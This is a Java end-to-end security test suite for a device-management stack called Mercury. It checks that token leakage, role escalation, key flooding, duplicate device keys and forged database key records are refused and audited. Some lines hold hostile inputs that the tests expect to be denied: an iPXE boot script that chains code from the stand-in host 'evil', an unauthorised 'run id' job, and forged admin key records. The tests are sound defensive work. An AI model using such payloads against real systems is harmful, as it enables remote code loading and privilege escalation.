package io.mercury.cli.stack;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import com.mongodb.client.MongoClient;
import com.mongodb.client.MongoCollection;
import com.mongodb.client.model.Filters;
import io.mercury.common.protocol.Request;
import io.mercury.common.security.CurveKeyPair;
import io.mercury.common.security.KeyFiles;
import io.mercury.common.transport.RemoteException;
import io.mercury.common.transport.ServiceClient;
import io.mercury.common.transport.TransportException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermission;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.bson.Document;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * Security issue 14's findings F3–F5, F7 and F8 attempted against the real stack (every daemon a process of
 * its own, CURVE on, the boot service with auto enrolment and the token-less loopback API as {@code mercury
 * up} runs them), each with the weakest credential that could try it: nothing (HTTP, the enrolment socket),
 * a read-only operator key, an agent key bound to another device, a daemon key. Each is refused with a clear
 * error and, where docs/security.md says so, audited; the legitimate flows around them (enrol with a token,
 * register, heartbeats, tasks, re-registration after a restart, key replacement by an operator) still
 * work. F6 and F9–F12 are {@link HostileInputTest}'s (on the same stack), F1, F2 and F13 {@link
 * HostileAgentTest}'s.
 */
@Tag("e2e")
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
@ExtendWith(SharedHostileStack.class)
class HostileStackTest {
  private static final Pattern TOKEN = Pattern.compile("MERCURY_ENROL_TOKEN=(\\S+)");

  private HostileStack h;
  private TestStack stack;
  private TestStack.Service backend;
  private TestStack.Service rpc;
  private TestStack.Agent victim;
  private TestStack.Agent mallory;
  private MongoClient store;

  @BeforeAll
  void attach(HostileStack shared) {
    h = shared;
    stack = shared.stack;
    backend = shared.backend;
    rpc = shared.rpc;
    victim = shared.victim;
    mallory = shared.mallory;
    store = shared.store;
  }

  // ---------------------------------------------------------------- the legitimate flows

  @Test
  @Order(1)
  void agentsEnrolledWithTokensRegisterHeartbeatReportTheirMachinesAndRunTasks() throws Exception {
    for (TestStack.Agent agent : List.of(victim, mallory)) {
      Map<?, ?> doc = h.device(agent.mercuryId());
      assertThat(((Map<?, ?>) doc.get("dmi")).get("product_uuid").toString()).isIn(HostileStack.VICTIM_UUID, HostileStack.MALLORY_UUID);
      assertThat(stack.activeOrigin(agent.mercuryId())).isEqualTo("dc-a");
    }
    assertThat(h.keys("accepted")).extracting(k -> (Object) k.get("name")).contains(victim.mercuryId(), mallory.mercuryId());
    assertThat(h.audit().countDocuments(Filters.and(Filters.eq("action", "enrol"), Filters.eq("outcome", "ok")))).isGreaterThanOrEqualTo(2);
    ServiceClient operator = h.operatorTo(rpc.address(), "rpc");
    Map<?, ?> job =
        (Map<?, ?>) operator.invoke(
            Request.of("create_job", Map.of("mercury_id", victim.mercuryId()), Map.of("method", "echo", "args", List.of("legit"))), false);
    String jobId = (String) job.get("job_id");
    await().atMost(Duration.ofSeconds(60))
        .until(() -> ((Map<?, ?>) operator.invoke(Request.of("get_job", jobId), true)).get("time_completed") != null);
    List<?> tasks = (List<?>) ((Map<?, ?>) operator.invoke(Request.of("get_job_tasks", jobId), true)).get("tasks");
    assertThat(tasks).singleElement().satisfies(t -> assertThat(((Map<?, ?>) t).get("status")).isEqualTo("SUCCESS"));
  }

  // ---------------------------------------------------------------- F3

  @Test
  @Order(10)
  void f3_anEnrolmentTokenIsNeverInClearAndTheStoreAndKeysAreOwnerOnly() throws Exception {
    String token = stack.token(backend);
    // used once, by a new device's key, so the enrolment is audited too
    Map<?, ?> enrolled = HostileStack.enrol(h.enrolling(CurveKeyPair.generate()), TestMachines.mercuryIdOf("00000000-0000-4000-8000-0000000003f3"), token);
    assertThat(enrolled.get("status")).isEqualTo("accepted");

    // the trail as a read-only caller reads it (mcli audit --json), and as the store holds it
    Map<?, ?> trail =
        (Map<?, ?>) h.as(h.key("reader"), stack.logService(), "log").invoke(new Request("query_audit", List.of(), Map.of("limit", 1000L)), true);
    assertThat((Long) trail.get("count")).isPositive();
    assertThat(trail.toString()).doesNotContain(token).contains("[secret]");
    assertThat(h.audit().find().into(new ArrayList<>()).toString()).doesNotContain(token);
    // every daemon's log and the store's file
    try (Stream<Path> logs = Files.list(stack.layout().logs())) {
      for (Path log : logs.toList()) {
        assertThat(Files.readString(log, StandardCharsets.ISO_8859_1)).as(log.toString()).doesNotContain(token);
      }
    }
    Path storeFile = stack.layout().data().resolve("mercury.mv.db");
    assertThat(new String(Files.readAllBytes(storeFile), StandardCharsets.ISO_8859_1)).doesNotContain(token);

    Set<PosixFilePermission> ownerOnlyDir = PosixFilePermissions.fromString("rwx------");
    for (Path dir : List.of(stack.layout().home(), stack.layout().data(), stack.layout().logs(), stack.layout().run(), stack.keysDir())) {
      assertThat(Files.getPosixFilePermissions(dir)).as(dir.toString()).isEqualTo(ownerOnlyDir);
    }
    for (Path secret : List.of(storeFile, KeyFiles.secretFile(stack.keysDir(), "backend"), KeyFiles.secretFile(stack.keysDir(), "operator"),
        stack.keysDir().resolve("store.seal"), KeyFiles.secretFile(stack.agentState("mallory"), "agent"))) {
      assertThat(Files.getPosixFilePermissions(secret)).as(secret.toString())
          .doesNotContain(PosixFilePermission.GROUP_READ, PosixFilePermission.OTHERS_READ, PosixFilePermission.GROUP_WRITE, PosixFilePermission.OTHERS_WRITE);
    }
  }

  // ---------------------------------------------------------------- F4

  private static String tokenIn(RawHttp.Reply script) {
    Matcher m = TOKEN.matcher(script.body());
    return m.find() ? m.group(1) : null;
  }

  @Test
  @Order(20)
  void f4_bootingAgentsGetOneLiveTokenPerNewMacAtAGlobalRateAndEveryMintIsAudited() throws Exception {
    MongoCollection<Document> tokens = store.getDatabase("mercury_security").getCollection("enrolment_tokens");
    long started = System.nanoTime();
    String mac = HostileStack.randomMac();
    String first = tokenIn(h.discover(mac));
    String second = tokenIn(h.discover(mac));
    assertThat(first).isNotNull();
    assertThat(second).isNotNull().isNotEqualTo(first);
    assertThat(tokens.countDocuments(Filters.eq("mac", mac))).as("one live token per MAC").isEqualTo(1);

    // a MAC whose device already has an accepted key gets none
    String victimMac = TestMachines.macOf(HostileStack.VICTIM_UUID, 0);
    assertThat(h.discover(victimMac).body()).doesNotContain("MERCURY_ENROL_TOKEN").contains("MERCURY_BACKEND_KEY=");
    assertThat(tokens.countDocuments(Filters.eq("mac", victimMac))).isZero();

    // a burst of new MACs: no more than the rate, whoever asks
    int minted = 2;
    int refused = 0;
    for (int i = 0; i < 3 * HostileStack.AUTO_TOKENS_PER_MINUTE; i++) {
      if (tokenIn(h.discover(HostileStack.randomMac())) != null) {
        minted++;
      } else {
        refused++;
      }
    }
    long refill = Duration.ofNanos(System.nanoTime() - started).toSeconds() / (60 / HostileStack.AUTO_TOKENS_PER_MINUTE);
    assertThat(minted).isLessThanOrEqualTo(HostileStack.AUTO_TOKENS_PER_MINUTE + (int) refill);
    assertThat(refused).isPositive();

    // every mint and every refusal is in the trail, without the token
    List<Document> ok = h.audited("boot", "create_enrolment_token", "ok");
    assertThat(ok).hasSize(minted);
    assertThat(ok.toString()).doesNotContain(first, second);
    assertThat(h.audit().countDocuments(Filters.and(Filters.eq("who.name", "boot"), Filters.eq("action", "create_enrolment_token"), Filters.ne("outcome", "ok"))))
        .isEqualTo(refused + 1L);

    // the replaced token is dead (the key waits for an operator); the live one lets a booting agent in
    Map<?, ?> withDead = HostileStack.enrol(h.enrolling(CurveKeyPair.generate()), TestMachines.mercuryIdOf("00000000-0000-4000-8000-0000000004f4"), first);
    assertThat(withDead.get("status")).isEqualTo("pending");
    assertThat(HostileStack.enrol(h.enrolling(CurveKeyPair.generate()), TestMachines.mercuryIdOf("00000000-0000-4000-8000-0000000004f5"), second).get("status"))
        .isEqualTo("accepted");
    Map<?, ?> rejected =
        (Map<?, ?>) h.operatorTo(backend.address(), "backend").invoke(Request.of("set_key_status", List.of(withDead.get("fingerprint")), "rejected"), false);
    assertThat(rejected.get("errors")).isEqualTo(List.of());
  }

  // ---------------------------------------------------------------- F5

  @Test
  @Order(30)
  void f5_anAgentKeyAndADaemonKeyCallOnlyWhatTheyNeedAndRefusalsAreAudited() throws Exception {
    ServiceClient malloryToInventory = h.as(h.malloryKey(), stack.inventory(), "inventory");
    ServiceClient malloryToBackend = h.as(h.malloryKey(), backend.address(), "backend");
    ServiceClient malloryToRpc = h.as(h.malloryKey(), rpc.address(), "rpc");
    assertThatThrownBy(() -> malloryToInventory.invoke(Request.of("update_boot", victim.mercuryId(), Map.of("script", "#!ipxe\nchain http://evil/x")), false))
        .isInstanceOf(RemoteException.class)
        .hasMessage("Permission denied: update_boot needs role operator; " + mallory.mercuryId() + " has agent");
    assertThatThrownBy(() -> malloryToBackend.invoke(Request.of("set_key_status", List.of(victim.mercuryId()), "revoked"), false))
        .hasMessage("Permission denied: set_key_status needs role admin; " + mallory.mercuryId() + " has agent");
    assertThatThrownBy(() -> malloryToRpc.invoke(
            new Request("create_job", List.of(Map.of(), Map.of("method", "run", "args", List.of("id"))), Map.of("requested_by", "operator")), false))
        .hasMessage("Permission denied: create_job needs role operator; " + mallory.mercuryId() + " has agent");
    for (String action : List.of("update_boot", "set_key_status", "create_job")) {
      assertThat(h.audited(mallory.mercuryId(), action, "denied")).as(action).isNotEmpty();
    }

    // the boot service's key: devices and tokens for a booting MAC, nothing else
    ServiceClient bootToBackend = h.as(h.key("boot"), backend.address(), "backend");
    ServiceClient bootToRpc = h.as(h.key("boot"), rpc.address(), "rpc");
    ServiceClient bootToInventory = h.as(h.key("boot"), stack.inventory(), "inventory");
    assertThatThrownBy(() -> bootToBackend.invoke(Request.of("set_key_status", List.of(victim.mercuryId()), "revoked"), false))
        .hasMessageStartingWith("Permission denied: set_key_status needs role admin; boot has service");
    assertThatThrownBy(() -> bootToBackend.invoke(new Request("create_enrolment_token", List.of(), Map.of("uses", 100L)), false))
        .hasMessageContaining("only for a booting agent's mac");
    assertThatThrownBy(() -> bootToRpc.invoke(Request.of("create_job", Map.of(), Map.of("method", "echo")), false))
        .hasMessageStartingWith("Permission denied: create_job needs role operator; boot has service");
    assertThatThrownBy(() -> bootToInventory.invoke(Request.of("update_boot", victim.mercuryId(), Map.of("state", "rescue")), false))
        .hasMessageStartingWith("Permission denied: update_boot needs role operator; boot has service");
    assertThat(h.audited("boot", "set_key_status", "denied")).isNotEmpty();
    assertThat(h.audited("boot", "update_boot", "denied")).isNotEmpty();
    assertThat(stack.activeOrigin(victim.mercuryId())).isEqualTo("dc-a");
    assertThat(h.device(victim.mercuryId()).get("boot")).isNull();

    // only the frontend sets requested_by: the authenticated caller's name, whatever the request says
    ServiceClient operator = h.operatorTo(rpc.address(), "rpc");
    Map<?, ?> job =
        (Map<?, ?>) operator.invoke(
            new Request("create_job", List.of(Map.of("mercury_id", victim.mercuryId()), Map.of("method", "echo", "args", List.of("who"))),
                Map.of("requested_by", "someone-else")), false);
    Map<?, ?> stored = (Map<?, ?>) operator.invoke(Request.of("get_job", job.get("job_id")), true);
    assertThat(stored.get("requested_by")).isEqualTo("operator");
    assertThat(h.audited("operator", "create_job", "ok")).isNotEmpty();
  }

  // ---------------------------------------------------------------- F7

  @Test
  @Order(50)
  void f7_keysWithoutATokenAreCappedPerSourceAndExpireAndTheRealAgentsStillGetIn() throws Exception {
    // every key here comes from 127.0.0.1: start from none pending
    await().atMost(Duration.ofSeconds(60)).until(() -> h.keys("pending").isEmpty());
    List<String> flood = new ArrayList<>();
    for (int i = 0; i < HostileStack.PENDING_PER_SOURCE; i++) {
      Map<?, ?> reply = HostileStack.enrol(h.enrolling(CurveKeyPair.generate()), TestMachines.mercuryIdOf(String.format("00000000-0000-4000-8000-0000000007%02x", i)), null);
      assertThat(reply.get("status")).isEqualTo("pending");
      flood.add((String) reply.get("fingerprint"));
    }
    assertThatThrownBy(() -> HostileStack.enrol(h.enrolling(CurveKeyPair.generate()), TestMachines.mercuryIdOf("00000000-0000-4000-8000-0000000007ff"), null))
        .isInstanceOf(RemoteException.class)
        .hasMessageContaining("too many keys from 127.0.0.1 are pending (" + HostileStack.PENDING_PER_SOURCE + ", the limit per address is " + HostileStack.PENDING_PER_SOURCE + ")");
    // a real agent with a token is not crowded out
    String token = stack.token(backend);
    assertThat(HostileStack.enrol(h.enrolling(CurveKeyPair.generate()), TestMachines.mercuryIdOf("00000000-0000-4000-8000-000000000770"), token).get("status"))
        .isEqualTo("accepted");
    // pending keys expire (backend.enrolment.pending_ttl, 8 s here); then new ones are taken again
    await().atMost(Duration.ofSeconds(60))
        .until(() -> h.keys("pending").stream().noneMatch(k -> flood.contains(k.get("fingerprint"))));
    assertThat(HostileStack.enrol(h.enrolling(CurveKeyPair.generate()), TestMachines.mercuryIdOf("00000000-0000-4000-8000-0000000007fe"), null).get("status"))
        .isEqualTo("pending");
  }

  @Test
  @Order(51)
  void f7_aSecondKeyForABoundDeviceStaysPendingEvenWithATokenAndAcceptByNameRefusesIt() throws Exception {
    String token = stack.token(backend);
    CurveKeyPair intruder = CurveKeyPair.generate();
    Map<?, ?> reply = HostileStack.enrol(h.enrolling(intruder), victim.mercuryId(), token);
    assertThat(reply.get("status")).isEqualTo("pending");
    assertThat((String) reply.get("message")).contains("device " + victim.mercuryId() + " already has accepted key");
    String fingerprint = (String) reply.get("fingerprint");
    Map<?, ?> listed = h.keys("pending").stream().filter(k -> fingerprint.equals(k.get("fingerprint"))).findFirst().orElseThrow();
    assertThat(listed.get("conflict")).isNotNull();

    // mcli keys accept <the victim's id> and mcli keys accept <fingerprint>: neither lets it in
    ServiceClient admin = h.operatorTo(backend.address(), "backend");
    for (String ref : List.of(victim.mercuryId(), fingerprint)) {
      Map<?, ?> accepted = (Map<?, ?>) admin.invoke(Request.of("set_key_status", List.of(ref), "accepted"), false);
      assertThat(accepted.get("changed")).as(ref).isEqualTo(List.of());
      assertThat(accepted.toString()).as(ref).containsAnyOf("already has accepted key", "keys claim");
    }
    assertThat(h.keys("pending")).extracting(k -> (Object) k.get("fingerprint")).contains(fingerprint);
    // the token was not spent on it: it still lets a new device in
    assertThat(HostileStack.enrol(h.enrolling(CurveKeyPair.generate()), TestMachines.mercuryIdOf("00000000-0000-4000-8000-000000000771"), token).get("status"))
        .isEqualTo("accepted");
    assertThat(stack.activeOrigin(victim.mercuryId())).isEqualTo("dc-a");
    // and the intruder cannot reach the main socket
    assertThatThrownBy(() -> h.as(intruder, backend.address(), "backend", Duration.ofSeconds(2)).invoke(Request.of("heartbeat", victim.mercuryId()), false))
        .isInstanceOf(TransportException.class);
  }

  // ---------------------------------------------------------------- F8

  @Test
  @Order(60)
  void f8_aKeyRecordForgedInTheStoreIsIgnored() throws Exception {
    MongoCollection<Document> keys = store.getDatabase("mercury_security").getCollection("keys");
    String operatorKey = h.key("operator").publicKey();
    Document original = keys.find(Filters.eq("_id", operatorKey)).first();
    assertThat(original).as("the operator's key record").isNotNull();
    CurveKeyPair forger = CurveKeyPair.generate();
    Document forged = new Document(original);
    forged.put("_id", forger.publicKey());
    forged.put("name", "operator");
    keys.insertOne(forged);

    // a changed record: the read-only operator made admin
    String readerKey = h.key("reader").publicKey();
    Document reader = keys.find(Filters.eq("_id", readerKey)).first();
    assertThat(reader).isNotNull();
    keys.updateOne(Filters.eq("_id", readerKey), new Document("$set", new Document("role", "admin")));
    try {
      // written past the daemons: found at their next full read of the keys (every 2 s in the TestStack)
      await().atMost(Duration.ofSeconds(60)).until(() -> h.logOf("dc-a").contains("fails its seal"));
      assertThatThrownBy(() -> h.as(forger, backend.address(), "backend", Duration.ofSeconds(2)).invoke(Request.of("set_key_status", List.of(victim.mercuryId()), "revoked"), false))
          .isInstanceOf(TransportException.class);
      assertThatThrownBy(() -> h.as(forger, stack.inventory(), "inventory", Duration.ofSeconds(2)).invoke(Request.of("delete", victim.mercuryId()), false))
          .isInstanceOf(TransportException.class);
      try {
        h.as(h.key("reader"), backend.address(), "backend", Duration.ofSeconds(2)).invoke(Request.of("set_key_status", List.of(victim.mercuryId()), "revoked"), false);
        throw new AssertionError("the reader made admin in the store revoked a key");
      } catch (RemoteException | TransportException e) {
        assertThat(e.getMessage()).doesNotContain("changed");
      }
    } finally {
      keys.deleteOne(Filters.eq("_id", forger.publicKey()));
      keys.replaceOne(Filters.eq("_id", readerKey), reader);
    }
    // the genuine record again: the reader is let back in at the next reload, read-only as before
    ServiceClient readerToLog = h.as(h.key("reader"), stack.logService(), "log");
    await().atMost(Duration.ofSeconds(30)).ignoreExceptions()
        .until(() -> readerToLog.invoke(new Request("query_audit", List.of(), Map.of("limit", 1L)), true) != null);
    assertThat(h.logOf("dc-a")).contains("fails its seal: it was not written by a Mercury daemon; ignoring it");
    assertThat(h.keys("accepted")).extracting(k -> (Object) k.get("name")).contains(victim.mercuryId());
    assertThat(stack.activeOrigin(victim.mercuryId())).isEqualTo("dc-a");
  }

  // ---------------------------------------------------------------- the agent's own life

  @Test
  @Order(100)
  void anAgentRestartedWithItsKeyRegistersAgain() throws Exception {
    stack.kill9("victim");
    await().atMost(Duration.ofSeconds(60)).until(() -> stack.activeOrigin(victim.mercuryId()) == null);
    stack.restart("victim");
    stack.awaitActive(victim.mercuryId());
    assertThat(h.keys("accepted").stream().filter(k -> victim.mercuryId().equals(k.get("name")))).hasSize(1);
  }

  @Test
  @Order(101)
  void anOperatorReplacesTheKeyOfAReinstalledAgent() throws Exception {
    String oldFingerprint =
        (String) h.keys("accepted").stream().filter(k -> victim.mercuryId().equals(k.get("name"))).findFirst().orElseThrow().get("fingerprint");
    stack.kill9("victim");
    Path state = stack.agentState("victim");
    Files.delete(KeyFiles.secretFile(state, "agent"));
    Files.delete(KeyFiles.publicFile(state, "agent"));
    KeyFiles.loadOrCreate(state, "agent", Map.of("name", "agent"));
    String newKey = KeyFiles.load(state, "agent").publicKey();
    // the reinstalled machine comes with a fresh token: it does not let a second key in
    stack.restart("victim", Map.of("MERCURY_ENROL_TOKEN", stack.token(backend)));
    Map<?, ?> pending =
        await().atMost(Duration.ofSeconds(60))
            .until(() -> h.keys("pending").stream().filter(k -> newKey.equals(k.get("public_key"))).findFirst().orElse(null),
                k -> k != null);
    assertThat(pending.get("conflict")).isEqualTo(oldFingerprint);
    Map<?, ?> replaced =
        (Map<?, ?>) h.operatorTo(backend.address(), "backend").invoke(Request.of("set_key_status", List.of(pending.get("fingerprint")), "replace"), false);
    assertThat(replaced.get("errors")).isEqualTo(List.of());
    assertThat(h.keys("revoked")).extracting(k -> (Object) k.get("fingerprint")).contains(oldFingerprint);
    assertThat(h.audited("operator", "set_key_status", "ok")).isNotEmpty();
    try {
      await().atMost(Duration.ofSeconds(90))
          .until(() -> {
            Map<?, ?> doc = h.device(victim.mercuryId());
            return doc.get("active") instanceof Map<?, ?> active && newKey.equals(active.get("curve_public_key"));
          });
    } catch (org.awaitility.core.ConditionTimeoutException e) {
      Map<?, ?> doc = h.device(victim.mercuryId());
      throw new AssertionError("active=" + doc.get("active") + "\nagent log:\n" + stack.log("victim")
          + "\nbackend log:\n" + stack.log("dc-a"), e);
    }
  }
}
